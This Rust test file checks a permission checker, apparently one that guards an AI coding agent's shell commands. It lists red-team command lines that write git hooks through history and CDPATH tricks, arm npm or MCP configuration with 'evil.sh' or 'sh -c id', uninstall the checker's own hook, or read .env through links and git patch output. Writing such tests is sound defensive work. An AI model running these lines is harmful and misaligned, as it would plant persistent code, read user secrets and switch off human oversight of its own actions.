//! Outside attacker round 7: Bash lines that write a PERM-7 file, or change
//! ploy's own state, with no path on the line showing it. Each line must ask
//! PERM-7 under rules that allow every command and every edit.

#![allow(clippy::unwrap_used)] // tests: a panic is a test failure

use ploy_policy::{
    Action, ActionKind, Approvals, ConversationRules, Effect, GuardedFile, Permission, Rules,
    ShellFacts, Verdict,
};

mod support;

use support::{allow_all, root, rules};

/// (verdict, requirement) for `line` under `rules`.
fn judge(line: &str, rules: &Rules) -> (String, &'static str) {
    let action = Action::shell("bash", line, &root());
    let d = Permission::assert(&action, &ConversationRules::new(), rules, &Approvals::new());
    let verdict = match d.verdict {
        Verdict::Allow => "allow",
        Verdict::Ask { .. } => "ask",
        Verdict::Deny => "deny",
    };
    (verdict.to_string(), d.requirement)
}

fn assert_perm7(lines: &[&str]) {
    let rules = allow_all();
    for line in lines {
        assert_eq!(
            judge(line, &rules),
            ("ask".to_string(), "PERM-7"),
            "`{line}` must ask PERM-7"
        );
    }
}

fn assert_allowed(lines: &[&str]) {
    let rules = allow_all();
    for line in lines {
        assert_eq!(judge(line, &rules).0, "allow", "`{line}` must stay allowed");
    }
}

// proves: PERM-7 (round7 #19: ploy's own CLI changes its settings, trust,
// hook installation, approvals and store; only read-only forms are ordinary)
#[test]
fn round7_19_ploy_commands_that_change_ploy_ask() {
    assert_perm7(&[
        "ploy hook uninstall claude-code",
        "ploy hook uninstall claude-code --project",
        "ploy hook install claude-code --project",
        "ploy-hook uninstall claude-code",
        "/usr/local/bin/ploy trust allow .",
        "ploy trust forget",
        "ploy trust deny",
        "ploy approvals revoke 1",
        "ploy conversations rm abc",
        "ploy keys remove x",
        "ploy -p 'do it'",
        "env ploy hook uninstall claude-code",
        "echo ok && ploy trust allow",
        "bash -c 'ploy hook uninstall claude-code'",
        "ploy",
    ]);
    assert_allowed(&[
        "ploy --version",
        "ploy hook status",
        "ploy trust status",
        "ploy approvals list",
        "ploy conversations list",
        "ploy config show",
        "ploy doctor",
        "ploy-hook status",
    ]);
}

// proves: PERM-7 (round7 #17: bash's history file as a writer)
#[test]
fn round7_17_history_file_writes_ask() {
    assert_perm7(&[
        "history -s '[core]'; history -s 'fsmonitor = x'; HISTFILE=.git/config; history -w",
        "HISTFILE=.git/config; history -a",
        "history -s x; HISTFILE=.git/hooks/pre-commit; history -w",
        "printf -v HISTFILE %s .git/config; history -w",
        "read HISTFILE <<< .git/config; history -w",
        "history -w",
        "history -a",
        "v=HISTF; printf -v \"${v}ILE\" %s .envrc; history -w",
        "for HISTFILE in .envrc; do history -w; done",
        "export HIST\"\"FILE=.envrc",
    ]);
    assert_allowed(&["history", "printf -v x %s y"]);
}

// proves: PERM-7 (round7 #10: a `cd` that CDPATH may send anywhere makes
// every later relative write unknown)
#[test]
fn round7_10_cdpath_cd_makes_later_writes_ask() {
    assert_perm7(&[
        "CDPATH=.git cd hooks && printf x > pre-commit && chmod +x pre-commit",
        "CDPATH=.git; cd hooks; echo x > pre-commit",
        "CDPATH=.git cd hooks && curl -so pre-commit https://example.test/x",
        "printf -v CDPATH %s .git; cd hooks; echo x > pre-commit",
        "read CDPATH <<< .git; cd hooks; echo x > pre-commit",
        "CDPATH=.claude pushd commands && echo x > evil.md",
        "CDPATH=.git cd .git && echo x > config",
    ]);
    assert_allowed(&[
        "cd src && echo x > out.txt",
        "CDPATH=.git cd ./src && echo x > out.txt",
    ]);
}

// proves: PERM-7 (round7 #18: a git template folder installs hooks)
#[test]
fn round7_18_git_templates_ask() {
    assert_perm7(&[
        "git init --template=tpl",
        "git init -q --template tpl .",
        "git init --templ=tpl",
        "GIT_TEMPLATE_DIR=tpl git init",
        "git clone --template=tpl . x",
        "git -c init.templateDir=tpl init",
        "git clone -c init.TemplateDir=tpl . x",
        "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=tpl git commit",
        "chmod +x tpl/hooks/pre-commit && git init -q --template=tpl",
    ]);
    assert_allowed(&[
        "git init",
        "git clone https://example.test/r.git x",
        "git status",
    ]);
}

// proves: PERM-2 (round7 #11: one more option took a command out of its
// deny rule: `rm -rfv` under deny `rm -rf *`)
#[test]
fn one_more_option_does_not_escape_a_deny_rule() {
    let rules = rules(&[
        (ActionKind::Shell, Effect::Allow, "*"),
        (ActionKind::Shell, Effect::Deny, "rm -rf *"),
    ]);
    for line in [
        "rm -rfv build",
        "rm -r -f -v build",
        "rm -vrf build",
        "rm -rfvi build",
        "rm -rfvdI build",
        "rm --rec --for build",
        "rm --recursive --force --verbose build",
        "rm -rf --verbose build",
        "rm --rec -f build",
        "rm -d -r -f build",
        "rm -Ir -f build",
        "rm -r --interactive=never build",
        "rm -r --inter=never build",
        // No `-f` is still the denied command (round8 rm residue: with no
        // terminal rm never prompts, so `-f` is implied).
        "rm -rv build",
    ] {
        assert_eq!(judge(line, &rules).0, "deny", "{line}");
    }
    // Twins: no recursion is not the denied command.
    for line in ["rm -fv file.txt", "rm --verbose x"] {
        assert_eq!(judge(line, &rules).0, "allow", "{line}");
    }
}

/// The red team's #11b settings: the everyday deny rules for git, docker,
/// kubectl and terraform under allow rules for the whole programs.
fn everyday_denies() -> Rules {
    rules(&[
        (ActionKind::Shell, Effect::Allow, "git *"),
        (ActionKind::Shell, Effect::Allow, "docker *"),
        (ActionKind::Shell, Effect::Allow, "kubectl *"),
        (ActionKind::Shell, Effect::Allow, "terraform *"),
        (ActionKind::Shell, Effect::Deny, "git push --force *"),
        (ActionKind::Shell, Effect::Deny, "git push -f *"),
        (ActionKind::Shell, Effect::Deny, "git reset --hard *"),
        (ActionKind::Shell, Effect::Deny, "docker push *"),
        (ActionKind::Shell, Effect::Deny, "kubectl delete *"),
        (ActionKind::Shell, Effect::Deny, "terraform apply *"),
    ])
}

// proves: PERM-2 (round7 #11b: a deny rule for git, docker, kubectl or
// terraform sees its options as a set wherever the line puts them, every
// spelling of a forced push, and the old and new docker command names;
// what ploy cannot read as the denied command but holds all its words asks)
#[test]
fn round7_11b_deny_rules_see_options_anywhere() {
    let rules = everyday_denies();
    // Programs × spellings: each must be denied.
    for line in [
        "git push --force origin main",
        "git push origin main --force",
        "git push origin main -f",
        "git push -fu origin main",
        "git push -uf origin main",
        "git push origin +main",
        "git push origin +refs/heads/main:refs/heads/main",
        "git push --force-with-lease origin main",
        "git push origin main --force-with-lease=main:abc",
        "git push --force-if-includes --force-with-lease origin main",
        "git push --forc origin main",
        "git push --fo origin main",
        "git -C . push origin main --force",
        "git --no-pager push -q origin +main",
        "git reset --hard",
        "git reset -q --hard",
        "git reset HEAD~1 --hard",
        "git reset --ha HEAD",
        "docker push img",
        "docker image push img",
        "docker --debug push img",
        "docker -H tcp://127.0.0.1:1 image push img",
        "docker --context c image push img",
        "kubectl delete pod x",
        "kubectl -n prod delete pod x",
        "kubectl --context x delete pod x",
        "kubectl --namespace=prod delete pod x",
        "terraform apply",
        "terraform -chdir=x apply",
        "terraform -chdir=x apply -auto-approve",
    ] {
        assert_eq!(judge(line, &rules).0, "deny", "`{line}` must be denied");
    }
    // Twins that are not the denied command stay allowed.
    for line in [
        "git push origin main",
        "git push -u origin main",
        "git push origin main:main",
        "git push --no-force-with-lease origin main",
        "git reset --soft HEAD~1",
        "git reset -q",
        "docker pull img",
        "docker image ls",
        "kubectl -n prod get pods",
        "kubectl get pods --context x",
        "terraform plan",
        "terraform -chdir=x plan",
    ] {
        assert_eq!(judge(line, &rules).0, "allow", "`{line}` must stay allowed");
    }
}

// proves: PERM-2 (round7 #11b, fail closed: a line holding every word of a
// deny rule in an order ploy does not read as that command asks; so does a
// program whose subcommand ploy cannot place when a rule names it)
#[test]
fn round7_11b_scattered_words_of_a_deny_rule_ask() {
    let rules = rules(&[
        (ActionKind::Shell, Effect::Allow, "*"),
        (ActionKind::Shell, Effect::Deny, "kubectl delete --all *"),
        (
            ActionKind::Shell,
            Effect::Deny,
            "helm uninstall --no-hooks *",
        ),
        (ActionKind::Shell, Effect::Deny, "gh repo delete *"),
    ]);
    // Precisely the denied command: one option moved.
    for line in [
        "kubectl delete pods --all",
        "kubectl -n prod delete pods --all",
        "helm uninstall rel --no-hooks",
    ] {
        assert_eq!(judge(line, &rules).0, "deny", "{line}");
    }
    // All the rule's words, not readable as the rule: ask.
    for line in [
        "helm --kube-context x --namespace y --debug uninstall rel --no-hoo",
        "gh --repo o/r repo delete",
        "gh repo --repo o/r -R x delete",
    ] {
        let (verdict, _) = judge(line, &rules);
        assert_ne!(verdict, "allow", "{line}");
    }
    // So many options before the subcommand that ploy cannot place it.
    let many = format!("gh {} repo delete o/r", "-x v ".repeat(40));
    assert_ne!(judge(&many, &rules).0, "allow");
    let many_other = format!("gh {} pr list", "-x v ".repeat(40));
    assert_eq!(
        judge(&many_other, &rules).0,
        "ask",
        "a rule names gh: unplaced asks"
    );
    for line in [
        "kubectl get pods --all-namespaces",
        "gh pr list",
        "helm list",
    ] {
        assert_eq!(judge(line, &rules).0, "allow", "{line}");
    }
}

/// (verdict, requirement) for `line` in a project holding a `.env`.
fn judge_with_env(line: &str, rules: &Rules) -> (String, &'static str) {
    let guarded = || {
        Some(vec![GuardedFile {
            location: ".env".into(),
            judged: ".env".into(),
        }])
    };
    let action = Action::shell_judged(
        "bash",
        line,
        &root(),
        ShellFacts {
            resolve: None,
            guarded: &guarded,
            protected_by_shape: None,
            protected_below: None,
        },
    );
    let d = Permission::assert(&action, &ConversationRules::new(), rules, &Approvals::new());
    let verdict = match d.verdict {
        Verdict::Allow => "allow",
        Verdict::Ask { .. } => "ask",
        Verdict::Deny => "deny",
    };
    (verdict.to_string(), d.requirement)
}

// proves: PERM-2 (round7 #4: git forms that print a patch, a stash or an
// editor's template are reads of every guarded file, as `git diff` is)
#[test]
fn round7_4_git_printers_read_the_secret_files() {
    let rules = allow_all();
    for line in [
        "git add -f .env && git status -v",
        "git status --verbose",
        "git status -vv",
        "git status -sv",
        "git status --verb",
        "git commit --dry-run -v",
        "git commit --dry-run",
        "git commit -v -m x",
        "git commit -e -m x",
        "git commit",
        "git commit -a",
        "git commit -F .env",
        "git commit --file=.env",
        "git stash -a -q && git stash show -p --include-untracked",
        "git stash show",
        "git stash show stash@{0}",
        "git stash show --only-untracked",
        "git stash list -p",
        "git stash list --patch",
        "git stash push -p",
        "git stash -p",
        "git add -p",
        "git add --patch",
        "git add -i",
        "git add -e",
        "git checkout -p",
        "git restore -p .",
        "git reset -p",
        "git reset --patch HEAD",
        "git tag -a v1 -F .env",
        "git log -S sk_live --oneline",
        "git log -G 'sk_'",
        "git format-patch --stdout HEAD~1",
        "git range-diff a...b",
        "git archive HEAD",
        "git bundle create - HEAD",
        "git notes show",
        "git show-branch",
        "git -c core.pager=cat status",
        "git whatchanged -p",
    ] {
        assert_eq!(
            judge_with_env(line, &rules),
            ("ask".to_string(), "PERM-2"),
            "`{line}` prints or reads file contents: it must ask for the .env read"
        );
    }
    for line in [
        "git status",
        "git status -sb",
        "git status --porcelain=v2 -uno",
        "git status --short --branch",
        "git commit -m 'fix: x'",
        "git commit -am 'fix: x'",
        "git commit --amend --no-edit",
        "git commit -q -m x --author 'A <a@b>'",
        "git stash",
        "git stash -u",
        "git stash push -m wip",
        "git stash pop",
        "git stash list",
        "git stash show --stat",
        "git add -A",
        "git add -f .env",
        "git add --dry-run .",
        "git checkout -b topic",
        "git checkout main -- src/a.rs",
        "git restore --staged src/a.rs",
        "git reset --hard HEAD~1",
        "git tag -a v1 -m release",
        "git log --stat",
        "git log --oneline",
        "git branch -v",
    ] {
        assert_eq!(
            judge_with_env(line, &rules).0,
            "allow",
            "`{line}` prints no file content: it must stay allowed"
        );
    }
}

// proves: PERM-7 (round7 #5: a tool's own command that writes or arms
// configuration running code on the user's next ordinary command asks,
// whatever the allow rules)
#[test]
fn round7_5_tools_arming_configuration_ask() {
    assert_perm7(&[
        "npm config set script-shell /tmp/evil.sh --location=user",
        "npm config set node-options '--require /tmp/x.js' --location=user",
        "npm config set script-shell ./evil.sh --location=project",
        "npm config set script-shell ./evil.sh -g",
        "npm config edit",
        "npm config delete ignore-scripts",
        "npm c set script-shell ./evil.sh",
        "npm conf set script-shell ./evil.sh",
        "npm --location=user config set script-shell ./evil.sh",
        "npm set node-options='--require /tmp/x.js'",
        "pnpm config set node-options '--require /tmp/x.js'",
        "pnpm config set --location=project node-options x",
        "yarn config set yarnPath .yarn/evil.cjs",
        "yarn set version ./evil.cjs",
        "yarn plugin import ./evil.js",
        "pip config set global.index-url https://example.test/simple",
        "gh config set editor ./evil.sh",
        "gh alias set co --shell 'sh -c id'",
        "bundle config set --local path vendor",
        "conda config --add channels x",
        "pre-commit install",
        "pre-commit install --hook-type pre-push",
        "npx husky install",
        "npx husky",
        "pnpm dlx husky init",
        "husky",
        "direnv allow",
        "direnv allow .",
        "mise trust",
        "mise trust mise.toml",
        "git lfs install",
        "git maintenance start",
        "rustup toolchain link evil ./tc",
        "claude mcp add -s project evil -- sh -c id",
        "claude mcp add-json -s project evil '{}'",
        "codex mcp add evil -- sh -c id",
        "gemini mcp add evil sh -c id",
        "env npm config set script-shell ./evil.sh",
        "echo ok && direnv allow",
    ]);
    assert_allowed(&[
        "npm config get registry",
        "npm config list",
        "npm c ls",
        "npm test",
        "npm install",
        "pnpm config get node-options",
        "yarn config get yarnPath",
        "pip config list",
        "gh config get editor",
        "conda config --show",
        "pre-commit run --all-files",
        "direnv status",
        "mise ls",
        "git lfs ls-files",
        "claude mcp list",
        "codex mcp list",
    ]);
}

/// (verdict, requirement) for `line` when the folder `tpl` holds
/// `.claude/settings.json`, `.mcp.json` and `src/a.rs`, and `plain` holds
/// only `src/a.rs` (the caller's listing, as the agent and the hook make
/// it with `ploy_dirs::protected_names_below`).
fn judge_with_template(line: &str) -> (String, &'static str) {
    let below = |source: &str| -> Option<Vec<String>> {
        let folder = source.trim_end_matches('/').trim_end_matches("/.");
        let folder = folder.trim_start_matches("./");
        match folder {
            "tpl" => Some(vec![".claude/settings.json".into(), ".mcp.json".into()]),
            "unlistable" => None,
            _ => Some(Vec::new()),
        }
    };
    let none = || Some(Vec::new());
    let action = Action::shell_judged(
        "bash",
        line,
        &root(),
        ShellFacts {
            resolve: None,
            guarded: &none,
            protected_by_shape: None,
            protected_below: Some(&below),
        },
    );
    let d = Permission::assert(
        &action,
        &ConversationRules::new(),
        &allow_all(),
        &Approvals::new(),
    );
    let verdict = match d.verdict {
        Verdict::Allow => "allow",
        Verdict::Ask { .. } => "ask",
        Verdict::Deny => "deny",
    };
    (verdict.to_string(), d.requirement)
}

// proves: PERM-7 (round7 #12: a recursive copy plants the protected names
// its source holds, re-rooted at the target; a patch writes the paths it
// names, which ploy does not read)
#[test]
fn round7_12_recursive_copies_and_patches_plant_protected_names() {
    for line in [
        "cp -r tpl/. .",
        "cp -rT tpl .",
        "cp -a tpl/ ./",
        "cp -R tpl sub",
        "cp --recursive tpl .",
        "cp -r -t . tpl/.",
        "rsync -a tpl/ ./",
        "rsync -av --exclude x tpl/ .",
        "rsync -r tpl .",
        "cp -r unlistable/. .",
    ] {
        assert_eq!(
            judge_with_template(line),
            ("ask".to_string(), "PERM-7"),
            "`{line}` must ask PERM-7"
        );
    }
    for line in [
        "cp -r plain/. .",
        "rsync -a plain/ out/",
        "cp tpl.txt out.txt",
    ] {
        assert_eq!(
            judge_with_template(line).0,
            "allow",
            "`{line}` must stay allowed"
        );
    }
    assert_perm7(&[
        "git apply x.patch",
        "git apply --index x.patch",
        "git am < mails.mbox",
        "patch -p1 < x.diff",
        "patch -p1 -i x.diff",
    ]);
    assert_allowed(&[
        "git apply --check x.patch",
        "git apply --stat x.patch",
        "patch --dry-run -p1 -i x.diff",
    ]);
}

// proves: PERM-2 (round8 #10: a Bash read of a symbolic link to `.env`
// reads `.env`, as the read tool judges it)
#[test]
fn round8_10_shell_reads_through_links_ask() {
    let resolve = |path: &str| -> Option<String> {
        let path = path.trim_start_matches("./");
        Some(match path {
            "config.txt" | "d/e" | "sub/link" => "/home/dev/proj/.env".to_string(),
            "up" => "/home/dev/proj/../secrets/.env".to_string(),
            other if other.starts_with('/') => other.to_string(),
            other => format!("/home/dev/proj/{other}"),
        })
    };
    let none = || Some(Vec::new());
    let judge_linked = |line: &str| {
        let action = Action::shell_judged(
            "bash",
            line,
            &root(),
            ShellFacts {
                resolve: Some(&resolve),
                guarded: &none,
                protected_by_shape: None,
                protected_below: None,
            },
        );
        let d = Permission::assert(
            &action,
            &ConversationRules::new(),
            &allow_all(),
            &Approvals::new(),
        );
        match d.verdict {
            Verdict::Allow => ("allow", d.requirement),
            Verdict::Ask { .. } => ("ask", d.requirement),
            Verdict::Deny => ("deny", d.requirement),
        }
    };
    for line in [
        "cat config.txt",
        "head -5 d/e",
        "sort -u config.txt",
        "grep -h . config.txt",
        "xxd config.txt",
        "base32 config.txt",
        "awk 1 config.txt",
        "sed -n p config.txt",
        "cp -L d/e x.txt",
        "diff config.txt /dev/null",
        "cat < config.txt",
        "cd sub && cat link",
        "cat ./config.txt",
    ] {
        assert_eq!(judge_linked(line), ("ask", "PERM-2"), "`{line}` reads .env");
    }
    for line in ["cat README.md", "head -5 src/a.rs", "cat < notes.txt"] {
        assert_eq!(judge_linked(line).0, "allow", "`{line}` must stay allowed");
    }
    // A link out of the project is an outside read.
    assert_eq!(judge_linked("cat up").0, "ask");
}
